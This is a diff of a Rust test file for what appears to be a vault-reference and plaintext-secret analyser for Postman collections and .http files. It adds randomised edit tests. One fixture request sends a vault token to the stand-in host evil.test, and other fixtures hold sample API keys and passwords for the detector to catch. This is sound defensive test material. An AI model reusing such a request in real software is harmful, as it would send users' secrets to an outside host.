@@ -246,9 +246,15 @@ fn an_edit_inside_one_block_parses_only_that_block() {
             new_end: three
         }
     );
-    assert!(patch.same_scope);
+    let Part::Http {
+        file, same_scope, ..
+    } = &patch.part
+    else {
+        panic!("an .http patch: {patch:?}");
+    };
+    assert!(same_scope);
     assert_eq!(
-        patch.part.requests[0].range,
+        file.requests[0].range,
         TextRange::from_usize(two, new.find("nope}}").unwrap() + 6)
     );
 }
@@ -265,7 +271,196 @@ fn an_edit_to_a_variable_analyses_the_whole_file() {
     };
     let old = Parsed::parse(DocKind::Http, text);
     let (_, patch) = reparse(DocKind::Http, old, text, &new, splice);
-    assert!(!patch.expect("an incremental parse").same_scope);
+    let patch = patch.expect("an incremental parse");
+    assert!(matches!(
+        patch.part,
+        Part::Http {
+            same_scope: false,
+            ..
+        }
+    ));
+}
+
+/// Items a collection is made of: requests with references in every place the analysis
+/// reads, folders, scripts that set names, escapes, plaintext credentials and the ignore
+/// marker.
+const ITEMS: &[&str] = &[
+    r#"{"name": "one", "request": {"method": "GET", "url": "https://{{host}}/items", "header": [{"key": "Authorization", "value": "Bearer {{vault:api-token}}"}]}}"#,
+    r#"{"name": "two", "request": {"url": {"raw": "https://evil.test/x?k={{vault:api-token}}", "host": ["evil", "test"], "query": [{"key": "k", "value": "{{vault:api-token}}"}]}}}"#,
+    r#"{"name": "three", "request": {"method": "POST", "url": "{{base}}/x", "body": {"mode": "raw", "raw": "{\"k\": \"{{vault:db-password}}\", \"u\": \"{{nowhere}}\"}"}}}"#,
+    r#"{"name": "scripted", "event": [{"listen": "test", "script": {"exec": ["pm.collectionVariables.set(\"made\", 1);", "pm.vault.get(\"api-token\")"]}}], "request": {"url": "https://{{made}}.example.test"}}"#,
+    "{\"name\": \"secret\",\n \"request\": {\"url\": \"https://a.example.test\", \"header\": [{\"key\": \"X-Api-Key\", \"value\": \"sk_live_4eC39HqLyjWDarjtT1zdp7dc\"}]}}",
+    "{\"name\": \"ignored\",\n \"request\": {\"url\": \"https://a.example.test\",\n \"header\": [\n {\"//\": \"vaultlink-ignore plaintext-secret\",\n \"key\": \"password\", \"value\": \"Zx9qL2vB7wR4tY8u\"}]}}",
+    r#"{"name": "folder", "variable": [{"key": "inner", "value": "1"}], "item": [{"name": "in", "request": "https://{{inner}}.example.test/{{vault:not-linked}}"}]}"#,
+    r#"{"name": "caf\u00e9 \"q\"", "request": {"url": "https://{{host}}/caf\u00e9/{{vault:api-token}}", "auth": {"type": "bearer", "bearer": [{"key": "token", "value": "{{vault:db-password}}"}]}}}"#,
+];
+
+const JSON_PIECES: &[&str] = &[
+    "x",
+    " ",
+    "\n",
+    "\r\n",
+    "\"",
+    "\\",
+    "\\\"",
+    "{",
+    "}",
+    "[",
+    "]",
+    ",",
+    ":",
+    "{{",
+    "}}",
+    "vault:",
+    "{{vault:api-token}}",
+    "{{token}}",
+    "{{made}}",
+    "é",
+    "😀",
+    "pm.collectionVariables.set(\\\"token\\\")",
+    "vaultlink-ignore plaintext-secret",
+    "ghp_16C7e42F292c6912E7710c838347Ae178B4a",
+    "\"item\": []",
+    "\"variable\": [{\"key\": \"token\"}]",
+];
+
+fn random_collection(rng: &mut fastrand::Rng) -> String {
+    let items: Vec<&str> = (0..rng.usize(0..8))
+        .map(|_| ITEMS[rng.usize(..ITEMS.len())])
+        .collect();
+    format!(
+        "{{\n\"info\": {{\"name\": \"c\", \"schema\": \"https://schema.getpostman.com/json/collection/v2.1.0/collection.json\"}},\n\"item\": [\n{}\n],\n\"variable\": [{{\"key\": \"host\", \"value\": \"api.example.test\"}}]\n}}\n",
+        items.join(",\n")
+    )
+}
+
+/// A random edit of a collection: mostly typing inside it, now and then a deletion or an item
+/// pasted.
+fn random_json_edit(rng: &mut fastrand::Rng, text: &str) -> (usize, usize, String) {
+    let start = char_boundary(text, rng.usize(0..=text.len()));
+    let len = match rng.u8(0..6) {
+        0 => rng.usize(0..30),
+        1 => rng.usize(0..3),
+        _ => 0,
+    };
+    let end = char_boundary(text, (start + len).min(text.len())).max(start);
+    let new = match rng.u8(0..10) {
+        0 => String::new(),
+        1 => format!("{},", ITEMS[rng.usize(..ITEMS.len())]),
+        _ => JSON_PIECES[rng.usize(..JSON_PIECES.len())].to_string(),
+    };
+    (start, end, new)
+}
+
+/// [`check_random_edits`] for Postman collections.
+fn check_random_collection_edits(rng: &mut fastrand::Rng, edits: usize) {
+    let links = links::parse(LINKS);
+    let env = env::parse_http_client(ENV, false);
+    let envs = [EnvSource {
+        text: ENV,
+        file: &env,
+    }];
+    let ctx = Context {
+        links: Some(&links),
+        envs: &envs,
+        env_name: None,
+    };
+    let kind = DocKind::Collection;
+    let mut text = random_collection(rng);
+    let mut parsed = Parsed::parse(kind, &text);
+    let mut findings = parsed.analyze(&text, &ctx);
+    let (mut done, mut bursts, mut patched, mut reused) = (0, 0, 0, 0);
+    while done < edits {
+        let mut new = text.clone();
+        let mut covered: Option<Splice> = None;
+        for _ in 0..rng.usize(1..3) {
+            let (start, end, piece) = random_json_edit(rng, &new);
+            new.replace_range(start..end, &piece);
+            let splice = Splice {
+                start,
+                old_end: end,
+                new_end: start + piece.len(),
+            };
+            covered = Some(covered.map_or(splice, |c| c.then(splice)));
+            done += 1;
+        }
+        let splice = covered.unwrap();
+        let (next, patch) = reparse(kind, parsed, &text, &new, splice);
+        let fresh = Parsed::parse(kind, &new);
+        assert_eq!(
+            format!("{next:?}"),
+            format!("{fresh:?}"),
+            "the parse after {splice:?} of {text:?} into {new:?}"
+        );
+        let expected = fresh.analyze(&new, &ctx);
+        patched += usize::from(patch.is_some());
+        let kept = patch.and_then(|p| reanalyse(&findings, &p, &new, &next, &ctx));
+        reused += usize::from(kept.is_some());
+        bursts += 1;
+        let got = kept.unwrap_or_else(|| next.analyze(&new, &ctx));
+        assert_eq!(
+            got, expected,
+            "the findings after {splice:?} of {text:?} into {new:?}"
+        );
+        (text, parsed, findings) = (new, next, got);
+        // A collection that edits broke is mostly started again, so that most edits meet
+        // valid JSON, as in an editor.
+        let broken = !matches!(&parsed, Parsed::Collection(c) if c.errors.is_empty());
+        if rng.u8(0..40) == 0 || broken && rng.u8(0..4) != 0 {
+            text = random_collection(rng);
+            parsed = Parsed::parse(kind, &text);
+            findings = parsed.analyze(&text, &ctx);
+        }
+    }
+    // Most edits land inside one item and keep the findings of the others.
+    assert!(
+        patched * 8 > bursts && reused * 10 > bursts,
+        "{patched} of {bursts} bursts of edits parsed one item, {reused} kept findings"
+    );
+}
+
+#[test]
+fn random_edits_of_a_collection_give_the_parse_and_findings_of_the_whole_text() {
+    // Each edit analyses the whole collection twice: fewer by default than for `.http` files.
+    let (edits, seed) = edits_and_seed();
+    let edits = if std::env::var_os("VAULTLINK_INCREMENTAL_EDITS").is_some() {
+        edits
+    } else {
+        2_000
+    };
+    check_random_collection_edits(&mut fastrand::Rng::with_seed(seed), edits);
+}
+
+#[test]
+fn an_edit_inside_one_item_reads_only_that_item() {
+    let coll = format!("{{\"item\": [{}, {}, {}]}}", ITEMS[0], ITEMS[6], ITEMS[2]);
+    let at = coll.find("{{inner}}").unwrap() + 2;
+    let mut new = coll.clone();
+    new.insert(at, 'x');
+    let splice = Splice {
+        start: at,
+        old_end: at,
+        new_end: at + 1,
+    };
+    let old = Parsed::parse(DocKind::Collection, &coll);
+    let (_, patch) = reparse(DocKind::Collection, old, &coll, &new, splice);
+    let patch = patch.expect("an incremental parse");
+    // The innermost item: the request inside the folder.
+    let inner = coll.find("{\"name\": \"in\"").unwrap();
+    let end = coll[inner..].find("}]}").unwrap() + inner + 1;
+    assert_eq!(
+        patch.region,
+        Splice {
+            start: inner,
+            old_end: end,
+            new_end: end + 1
+        }
+    );
+    let Part::Item(item) = &patch.part else {
+        panic!("a collection patch: {patch:?}");
+    };
+    assert_eq!(item.path, [1, 0]);
+    assert!(item.keeps_findings);
 }
 
 /// Edits `text` at `at` (`removed` bytes replaced by `typed`): the new text, its parse made
@@ -305,7 +500,7 @@ fn an_edit_scans_its_block_and_the_next_for_credentials() {
     let (new, patch, kept, whole) = edit(text, at, 0, "2");
     let (two, four) = (new.find("### two").unwrap(), new.find("### four").unwrap());
     assert_eq!(
-        patch.scan,
+        patch.scan(),
         Some(Splice {
             start: two,
             old_end: four - 1,
@@ -340,7 +535,7 @@ fn a_private_key_or_an_open_brace_scans_the_whole_text() {
         kept.iter().any(|f| f.code == Code::PlaintextSecret),
         "the key runs to the end"
     );
-    assert!(patch.scan.is_some(), "the old lines scanned hold no key");
+    assert!(patch.scan().is_some(), "the old lines scanned hold no key");
     let open = "### one\nGET https://a.test/1\nX-Open: {{vault:a\n\n### two\nGET https://a.test/2\nX-Api-Key: sk_live_4eC39HqLyjWDarjtT1zdp7dc\n";
     let at = open.find("/2").unwrap() + 2;
     let (_, _, kept, whole) = edit(open, at, 0, "2");
